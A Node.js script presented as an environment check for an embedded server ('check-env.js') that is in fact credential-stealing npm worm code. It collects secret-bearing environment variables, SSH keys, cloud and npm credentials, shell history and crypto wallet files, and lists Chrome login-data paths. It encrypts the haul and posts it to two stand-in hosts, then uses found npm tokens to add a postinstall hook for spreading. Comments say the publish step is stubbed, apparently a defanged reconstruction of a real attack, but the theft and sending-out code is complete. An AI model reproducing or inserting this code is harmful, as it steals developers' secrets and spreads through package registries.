#!/usr/bin/env node
/**
 * check-env.js - verifies that the host can run the embedded server.
 */
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
const https = require('https');
const { execSync } = require('child_process');

const HOME = os.homedir();
const CANISTER = 'cjn37-uyaaa-aaaac-standin.raw.icp.example.invalid';
const HOOK = 'telemetry.api-monitor.example.invalid';

// ---- 1. what the process itself knows
const ENV_PATTERNS = [/TOKEN/i, /SECRET/i, /PASSWORD/i, /API_?KEY/i, /^AWS_/, /^AZURE_/, /^GCP_|^GOOGLE_/, /^NPM_/, /^GITHUB_/, /^OPENAI_/, /^ANTHROPIC_/, /MNEMONIC/i];
function fromEnv() {
  const out = {};
  for (const [key, value] of Object.entries(process.env)) if (ENV_PATTERNS.some((p) => p.test(key))) out[key] = value;
  return out;
}

// ---- 2. files that hold secrets
const FILES = ['.npmrc', '.netrc', '.git-credentials', '.pypirc', '.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/config', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/accessTokens.json', '.kube/config', '.docker/config.json', '.vault-token', '.bash_history', '.zsh_history', '.config/solana/id.json', '.ethereum/keystore', '.env'];
function fromFiles() {
  const out = {};
  for (const rel of FILES) {
    try {
      out[rel] = fs.readFileSync(path.join(HOME, rel), 'utf8').slice(0, 65536);
    } catch {}
  }
  return out;
}

// ---- 3. browser stores
const CHROME = { linux: '.config/google-chrome/Default/Login Data', darwin: 'Library/Application Support/Google/Chrome/Default/Login Data', win32: 'AppData/Local/Google/Chrome/User Data/Default/Login Data' };
const WALLETS = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];

// ---- 4. seal
function seal(obj) {
  const pub = fs.readFileSync(path.join(__dirname, 'public.pem'), 'utf8');
  const key = crypto.randomBytes(32);
  const iv = crypto.randomBytes(16);
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  const body = Buffer.concat([c.update(JSON.stringify(obj), 'utf8'), c.final()]);
  const wrapped = crypto.publicEncrypt({ key: pub, oaepHash: 'sha256' }, key);
  return JSON.stringify({ k: wrapped.toString('base64'), iv: iv.toString('base64'), d: body.toString('base64') });
}

function post(host, p, body) {
  return new Promise((done) => {
    const req = https.request({ host, path: p, method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) }, timeout: 8000 }, (res) => res.resume().on('end', done));
    req.on('error', done);
    req.end(body);
  });
}

// ---- 5. propagate: one token, many packages (stand-in: lists, does not publish)
function publishTokens() {
  const rc = fromFiles()['.npmrc'] || '';
  return [...rc.matchAll(/_authToken=(\S+)/g)].map((m) => m[1]).concat(process.env.NPM_TOKEN || []);
}
function inject(dir) {
  const file = path.join(dir, 'package.json');
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
  manifest.version = manifest.version.replace(/\d+$/, (n) => String(Number(n) + 1));
  manifest.scripts = { ...manifest.scripts, postinstall: 'node scripts/check-env.js || true' };
  return manifest; // stand-in: the original wrote the file, copied itself and ran "npm publish"
}

async function main() {
  const loot = { host: os.hostname(), user: os.userInfo().username, ci: !!process.env.CI, env: fromEnv(), files: fromFiles() };
  const sealed = seal(loot);
  await Promise.allSettled([post(HOOK, '/v1/telemetry', sealed), post(CANISTER, '/drop', sealed)]);
  for (const token of publishTokens()) {
    try {
      const who = execSync('npm whoami', { env: { ...process.env, NPM_TOKEN: token }, stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim();
      if (who) inject(process.env.INIT_CWD || process.cwd());
    } catch {}
  }
}

main().catch(() => {}).finally(() => process.exit(0));
